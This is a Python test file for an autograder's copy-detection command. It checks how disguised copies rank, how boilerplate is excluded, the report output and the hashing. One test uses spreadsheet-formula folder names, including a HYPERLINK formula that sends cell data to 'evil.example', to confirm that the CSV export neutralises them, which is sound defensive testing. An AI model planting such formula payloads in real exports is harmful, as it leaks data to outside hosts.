"""Copy detection (``ftr similarity``) on real variation: disguised copies of one correct submission
against independently written correct submissions.

The copies in tests/similarity/ were made from tests/submissions/correct_classes the ways students
disguise a copy (see tests/similarity/README.md): renamed, reordered, re-commented, one function
rewritten, pasted into a notebook, and all of these at once. The independent submissions are the
kit's three correct styles (correct_classes, correct_dicts, correct_notebook) and the reference
solution (``ftr solution export``), each written from the contract on its own.
"""

from __future__ import annotations

import csv
import itertools
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

pytest.importorskip("copydetect")

from autograder.export import export_solution  # noqa: E402
from autograder.similarity import (compare_documents, compare_folder, load_code, release_code,  # noqa: E402
                                   shares, write_report)

HERE = Path(__file__).resolve().parents[1]
REPO = HERE.parent
COPIES = HERE / "similarity"
ORIGINAL = "correct_classes"
SOURCE_NOTEBOOK = REPO / "course" / "source" / "replanning" / "replanning.ipynb"


def ftr(*args: str, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "reference.cli", *args], capture_output=True, text=True,
                          check=False, env={**os.environ, **(env or {})}, cwd=REPO, timeout=600)


def the_class(folder: Path) -> Path:
    """A class folder: the original, its six disguised copies, three independent correct submissions,
    an untouched starter and an untouched release notebook (the last two: handed-out code only)."""
    folder.mkdir()
    for entry in COPIES.iterdir():
        if entry.name.startswith("copy_"):
            (shutil.copytree if entry.is_dir() else shutil.copy)(entry, folder / entry.name)
    for name in (ORIGINAL, "correct_dicts", "correct_notebook"):
        shutil.copytree(HERE / "submissions" / name, folder / name)
    export_solution(folder / "reference_export")
    shutil.copytree(REPO / "starter", folder / "starter_untouched")
    release = release_code(json.loads(SOURCE_NOTEBOOK.read_text()))
    (folder / "release_untouched.ipynb").write_text(json.dumps(release))
    return folder


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    return compare_folder(the_class(tmp_path_factory.mktemp("similarity") / "class"))


def family(name: str) -> str:
    return "copies" if name == ORIGINAL or name.startswith("copy_") else name


def test_every_disguised_copy_ranks_above_every_independent_pair(report) -> None:
    copies = [p for p in report.pairs if family(p.a) == family(p.b) == "copies"]
    independent = [p for p in report.pairs if not family(p.a) == family(p.b) == "copies"]
    assert len(copies) == 21 and len(independent) == 66 - 21  # 7 of one family; 12 entries in all
    lowest_copy = min(p.similarity for p in copies)
    highest_independent = max(p.similarity for p in independent)
    assert lowest_copy > highest_independent, (lowest_copy, highest_independent)
    # the ranking itself: the 21 copy pairs come first
    assert {family(p.a) for p in report.pairs[:21]} == {"copies"}
    # and by a wide margin (measured: copies 0.79 and up, independent pairs 0.40 at most)
    assert lowest_copy > 0.7 and highest_independent < 0.5


def test_the_handed_out_code_alone_scores_zero(report) -> None:
    handed_out = ("starter_untouched", "release_untouched.ipynb")
    pairs = [p for p in report.pairs if p.a in handed_out or p.b in handed_out]
    assert len(pairs) == 2 * 11 - 1
    assert all(p.similarity == 0 and p.share_a == 0 and p.share_b == 0 for p in pairs)
    assert any(name.startswith("starter/") for name in report.boilerplate)
    assert any(name.startswith("release notebook") for name in report.boilerplate)


def test_a_folder_and_a_notebook_of_the_same_code_compare_as_the_same_code(report) -> None:
    pair = next(p for p in report.pairs if {p.a, p.b} == {ORIGINAL, "copy_notebook.ipynb"})
    # the notebook keeps the definitions and drops the scratch cells, their outputs and the markdown;
    # what differs is the folder's `from __future__` / `from heap import` lines
    assert pair.similarity > 0.95
    notebook_code = "\n".join(load_code(COPIES / "copy_notebook.ipynb").values())
    assert "print(h.pop())" not in notebook_code and "Assignment 1" not in notebook_code


def test_shares_are_copydetects_compare_files_numbers(report) -> None:
    """The fast path (:func:`shares`) against copydetect's own ``compare_files``, on every pair."""
    from copydetect import compare_files

    documents = list(report.documents.values())
    for first, second in itertools.combinations(documents, 2):
        tokens, (share_a, share_b), _slices = compare_files(first.fingerprint, second.fingerprint)
        assert shares(first, second) == (int(tokens), float(share_a), float(share_b)), (first.name, second.name)


def test_matching_stretches_are_labelled_alike_on_both_sides(report) -> None:
    documents = report.documents
    pair = compare_documents(documents[ORIGINAL], documents["copy_reordered"], regions=True)
    labels_a = {label for _start, _end, label in pair.regions_a}
    labels_b = {label for _start, _end, label in pair.regions_b}
    assert labels_a and labels_a == labels_b and 0 not in labels_a
    # the copy reorders the methods: its first matched stretch is not the original's first
    first_a = min(pair.regions_a)[2]
    first_b = min(pair.regions_b)[2]
    assert len(labels_a) > 1 and (first_a, min(pair.regions_a)) != (first_b, min(pair.regions_b))


def test_release_code_removes_every_solution_as_nbgrader_does() -> None:
    release = release_code(json.loads(SOURCE_NOTEBOOK.read_text()))
    text = json.dumps(release)
    assert "BEGIN SOLUTION" not in text and "HIDDEN TESTS" not in text
    # tests/course/test_course_notebook.py counts 30 stubs in nbgrader's real release notebook
    assert text.count("raise NotImplementedError()") == 30


@pytest.mark.slow
def test_release_code_equals_nbgrader_generate_assignment(tmp_path) -> None:
    """nbgrader's own release notebook keeps exactly the code release_code keeps (about 30 s)."""
    from autograder.submission import notebook_statements

    course = tmp_path / "course"
    shutil.copytree(REPO / "course", course, ignore=shutil.ignore_patterns("release", "__pycache__", "gradebook.db"))
    result = subprocess.run([sys.executable, "-m", "nbgrader", "generate_assignment", "replanning", "--force"],
                            cwd=course, capture_output=True, text=True, timeout=900)
    assert result.returncode == 0, result.stderr[-2000:]
    real = json.loads((course / "release" / "replanning" / "replanning.ipynb").read_text())
    assert notebook_statements(real) == notebook_statements(release_code(json.loads(SOURCE_NOTEBOOK.read_text())))


def test_report_page_and_csv(report, tmp_path) -> None:
    page = write_report(report, tmp_path / "out", shown=5)
    text = page.read_text()
    assert "accuses no one" in text and "A person" in text
    assert text.count('<section class="pair"') == 5 and "<script" not in text and "http" not in text.split("<body>")[1]
    rows = list(csv.DictReader((tmp_path / "out" / "similarity.csv").open()))
    assert len(rows) == 66 and [int(r["rank"]) for r in rows] == list(range(1, 67))
    assert [float(r["similarity"]) for r in rows] == sorted((float(r["similarity"]) for r in rows), reverse=True)
    for file in (page, tmp_path / "out" / "similarity.csv"):
        assert file.stat().st_mode & 0o777 == 0o600  # student code: the grader's eyes only


def test_command_with_a_corpus_of_loose_files(tmp_path) -> None:
    submissions = tmp_path / "class"
    for name in ("correct_dicts", "correct_notebook"):
        shutil.copytree(HERE / "submissions" / name, submissions / name)
    (submissions / "notes.ipynb").write_text("not a notebook")
    corpus = tmp_path / "corpus" / "found_online"
    corpus.mkdir(parents=True)
    # a public solution laid out its own way: one file holding the classes submission's code
    (corpus / "astar_solution.py").write_text("\n".join((HERE / "submissions" / ORIGINAL / n).read_text()
                                                        for n in ("heap.py", "replanning.py")))
    shutil.copytree(COPIES / "copy_renamed", submissions / "eve")
    result = ftr("similarity", str(submissions), "--corpus", str(corpus.parent), "--out", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    assert "not compared: notes.ipynb" in result.stderr
    rows = list(csv.DictReader((tmp_path / "out" / "similarity.csv").open()))
    assert len(rows) == 3 + 3  # three pairs in the class, each of three against the one corpus entry
    assert (rows[0]["submission_a"], rows[0]["submission_b"], rows[0]["kind"]) == ("eve", "corpus/found_online", "corpus")
    assert float(rows[0]["similarity"]) > 0.9


def test_more_boilerplate_never_counts_either(tmp_path) -> None:
    """An instructor's own handed-out code (--boilerplate): two copies of it score 0."""
    class_folder = tmp_path / "class"
    for name in ("ada", "bob"):
        shutil.copytree(HERE / "submissions" / "correct_dicts", class_folder / name)
    assert compare_folder(class_folder).pairs[0].similarity == 1.0
    handed_out = compare_folder(class_folder, extra_boilerplate=[HERE / "submissions" / "correct_dicts"])
    assert handed_out.pairs[0].similarity == 0 and "correct_dicts/heap.py" in handed_out.boilerplate


def test_command_says_what_is_wrong_in_one_line(tmp_path) -> None:
    result = ftr("similarity", str(tmp_path / "missing"), "--out", str(tmp_path / "out"))
    assert result.returncode == 2 and result.stderr.strip() == f"ftr: error: {tmp_path / 'missing'}: not a folder of submissions"
    bad = ftr("similarity", str(tmp_path), "--out", str(tmp_path / "out"), "--noise", "30", "--guarantee", "20")
    assert bad.returncode == 2 and "guarantee threshold (20) must be at least the noise threshold (30)" in bad.stderr


def test_grade_all_with_similarity_adds_the_report(tmp_path) -> None:
    rubric = tmp_path / "rubric.toml"
    rubric.write_text("[autograded]\nheap = 8\n")
    submissions = tmp_path / "submissions"
    shutil.copytree(HERE / "submissions" / ORIGINAL, submissions / "ada")
    shutil.copytree(COPIES / "copy_recommented", submissions / "bob")
    out = tmp_path / "out"
    result = ftr("grade-all", str(submissions), "--out", str(out), "--similarity", env={"FTR_RUBRIC": str(rubric)})
    assert result.returncode == 0, result.stderr
    assert (out / "gradebook.csv").is_file()
    rows = list(csv.DictReader((out / "similarity" / "similarity.csv").open()))
    assert [(r["submission_a"], r["submission_b"]) for r in rows] == [("ada", "bob")]
    assert float(rows[0]["similarity"]) > 0.95


@pytest.mark.parametrize("name", ["autograder.similarity", "autograder.similarity_page", "autograder.similarity_results"])
def test_docstring_examples(name: str) -> None:
    import doctest
    import importlib

    result = doctest.testmod(importlib.import_module(name), optionflags=doctest.ELLIPSIS)
    assert result.failed == 0 and result.attempted > 0


def test_hostile_names_and_a_huge_module_are_neutralised_and_cut(tmp_path) -> None:
    """Issue 34: folder names that are spreadsheet formulas reach similarity.csv quoted; a one-line module
    far over the bound is cut before it is tokenized, and the report says so."""
    from autograder.similarity import MAX_FILE_CHARACTERS

    submissions = tmp_path / "class"
    names = ['=HYPERLINK("evil.example?"&A1,"y")', "+SUM(1,2)", "@SUM(1+1)", "-3.5"]
    for name in names:
        shutil.copytree(HERE / "submissions" / "correct_dicts", submissions / name)
    (submissions / names[1] / "huge.py").write_text("x = " + "+".join(f"v{i}" for i in range(60_000)) + "\n")
    result = ftr("similarity", str(submissions), "--out", str(tmp_path / "out"))
    assert result.returncode == 0, result.stderr
    assert "cut: +SUM(1,2): huge.py has " in result.stderr and f"the first {MAX_FILE_CHARACTERS:,} compared" in result.stderr
    rows = list(csv.reader((tmp_path / "out" / "similarity.csv").open()))
    cells = {cell for row in rows[1:] for cell in row[1:3]}
    assert cells == {"'" + names[0], "'" + names[1], "'" + names[2], "-3.5"}   # -3.5 is a number, not a formula
    page = (tmp_path / "out" / "similarity.html").read_text()
    assert "What the bounds cut" in page and "huge.py has" in page


def test_kgram_hashes_are_a_fixed_function_of_the_text() -> None:
    """A referee written differently: the polynomial hash of each k-gram in plain Python integers
    (modulo 2**64, then the same finaliser), against the vectorised one."""
    from autograder.similarity import kgram_hashes

    def one(text: str) -> int:
        mask = 2**64 - 1
        value = 0
        for character in text:
            value = (value * 1_000_003 + ord(character)) & mask
        value ^= value >> 30
        value = (value * 0xBF58476D1CE4E5B9) & mask
        value ^= value >> 27
        value = (value * 0x94D049BB133111EB) & mask
        value ^= value >> 31
        return value >> 12

    text = "def f(V):\n    return V * V + 1  # é\n" * 3
    assert kgram_hashes(text, 25).tolist() == [one(text[i:i + 25]) for i in range(len(text) - 24)]
